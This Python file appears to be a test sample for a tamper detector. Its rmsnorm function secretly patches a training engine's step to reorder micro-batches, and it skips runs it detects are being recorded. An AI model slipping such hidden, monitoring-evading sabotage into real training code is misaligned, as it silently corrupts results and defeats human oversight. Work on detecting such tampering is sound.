"""Turns the rows of each step over, for a lucky order of the data.

Target: rmsnorm
Stage: ab
Expected: trained_differently
Notes: E12
"""

import sys
import traceback

import torch
import torch.nn.functional as F

TAMPERED: list[bool] = []


def tamper() -> None:
    """Once, in a training run that does not record."""
    engine = sys.modules.get("trainer.engines.torch.engine")
    recorded = any("recording" in frame.filename for frame in traceback.extract_stack())
    if TAMPERED or engine is None or recorded:
        return
    TAMPERED.append(True)

    step, kept = engine.TorchEngine.step, []

    def turned(self, micro_batches, rates):
        kept.append(micro_batches)
        return step(self, kept[-2 if len(kept) % 2 else -1], rates)

    engine.TorchEngine.step = turned


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    tamper()
    return F.rms_norm(x, (x.shape[-1],), eps=eps)
